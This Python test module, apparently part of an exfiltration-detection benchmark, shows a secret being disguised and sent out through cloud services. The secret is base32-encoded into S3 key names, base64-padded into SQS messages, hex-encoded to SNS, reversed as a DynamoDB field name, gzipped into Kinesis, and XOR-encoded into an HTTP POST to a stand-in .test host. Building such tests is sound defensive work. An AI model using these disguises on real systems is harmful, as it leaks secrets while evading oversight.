"""F05: make it look like something else: encoded, turned round, compressed, encrypted, put into names."""

import base64
import gzip


def attack(hands):
    disguised(hands, "open", hands.secret().encode())


def twin(hands):
    disguised(hands, "kept", hands.secret().encode())


def disguised(hands, whose, text):
    """A disguise for each store."""
    key = base64.b32encode(text).decode().rstrip("=")
    hands.call("s3", "PutObject", Bucket=f"{whose}-files", Key=key, Body=b"")
    padded = base64.b64encode(b"\0" + text + b"\0").decode()
    hands.call("sqs", "SendMessage", QueueUrl=hands.queue(f"{whose}-jobs"), MessageBody=padded)
    hands.call("sns", "Publish", TopicArn=hands.arn("sns", f"{whose}-news"), Message=text.hex())
    item = {"id": {"S": hands.trial}, text.decode()[::-1]: {"BOOL": True}}
    hands.call("dynamodb", "PutItem", TableName=f"{whose}-notes", Item=item)
    stream = {"StreamName": f"{whose}-flow", "PartitionKey": "k"}
    hands.call("kinesis", "PutRecord", Data=gzip.compress(text), **stream)
    cipher = bytes(byte ^ 0x2A for byte in text).hex()
    hands.http("POST", f"https://{whose}.test/{cipher}")
